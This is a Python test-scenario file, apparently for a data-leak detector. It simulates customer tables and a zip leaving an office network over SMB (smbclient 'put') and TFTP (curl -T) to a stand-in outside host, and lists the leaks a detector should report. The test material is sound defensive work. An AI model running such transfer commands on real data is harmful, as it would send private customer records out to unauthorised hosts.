"""Scenarios: file shares. Files pass in blocks, each with a header before it."""

import io
import zipfile

import servers
from content import customers, customers_file
from registry import Facts, scenario

SMB = {"app_proto": "smb", "destination": "203.0.113.9", "port": 445, "user": "dana"}


def zipped(name, content):
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return packed.getvalue()


def smbclient(net, commands, *options):
    net.office_do("smbclient", "//203.0.113.9/sales", "-s", net.write("client.conf", "[global]\n"), "-U", "dana%Winter2026",
                  *options, "-c", commands)


@scenario("smb")
def smb(net, record):
    """smbclient to samba: a zip in blocks of 4 KiB, several on the way at a time, a table in one, a file that is read, and a new name;
    SMB 2, then SMB 3 with signatures."""
    servers.samba(net, net.outside, "203.0.113.9", "dana", "Winter2026", "smb2 max write = 4096")
    net.write("customers.zip", zipped("customers.csv", customers_file(900, 571)))
    net.write("orders.csv", customers_file(80, 572))
    net.write("share/prices.csv", customers_file(60, 573))
    record()
    smbclient(net, "put customers.zip; mkdir old; get prices.csv back.csv", "-m", "SMB2")
    smbclient(net, "put orders.csv old\\orders.csv; rename old\\orders.csv old\\list.csv", "-m", "SMB3", "--client-protection=sign")
    facts = Facts().leak(customers(900, 571), ["WRITE customers.zip", "customers.csv"], **SMB)
    facts.leak(customers(80, 572), ["WRITE old\\orders.csv"], **SMB)
    return facts.leak(customers(60, 573), ["READ prices.csv"], "smb", source="203.0.113.9", destination="10.20.0.7", port=None,
                      direction="inbound", user="dana")


@scenario("smb-encrypted")
def smb_encrypted(net, record):
    """smbclient to samba with the encryption of SMB 3: its framing says so, however little it is."""
    servers.samba(net, net.outside, "203.0.113.9", "dana", "Winter2026")
    sent = customers_file(60, 574)
    net.write("customers.csv", sent)
    record()
    smbclient(net, "put customers.csv", "-m", "SMB3", "--client-protection=encrypt")
    return Facts().blind("smb3", "203.0.113.9", 445, len(sent))


@scenario("tftp")
def tftp(net, record):
    """curl to tftpd-hpa: a zip in blocks of 512 bytes, a table in blocks of 1,428, and one that is read: each from a new port of the
    server."""
    servers.tftp(net, net.outside, "203.0.113.9")
    packed = net.write("customers.zip", zipped("customers.csv", customers_file(600, 576)))
    orders = net.write("orders.csv", customers_file(80, 577))
    net.write("tftp/prices.csv", customers_file(60, 578))
    curl = ["curl", "-sS", "--max-time", "20"]
    record()
    net.office_do(*curl, "-T", packed, "tftp://203.0.113.9/customers.zip")
    net.office_do(*curl, "--tftp-blksize", "1428", "-T", orders, "tftp://203.0.113.9/orders.csv")
    net.office_do(*curl, "-o", "prices.csv", "tftp://203.0.113.9/prices.csv")
    facts = Facts().leak(customers(600, 576), ["WRQ customers.zip", "customers.csv"], "tftp", port=None)
    facts.leak(customers(80, 577), ["WRQ orders.csv"], "tftp", port=None)
    return facts.leak(customers(60, 578), ["RRQ prices.csv"], "tftp", source="203.0.113.9", destination="10.20.0.7", port=None,
                      direction="inbound")
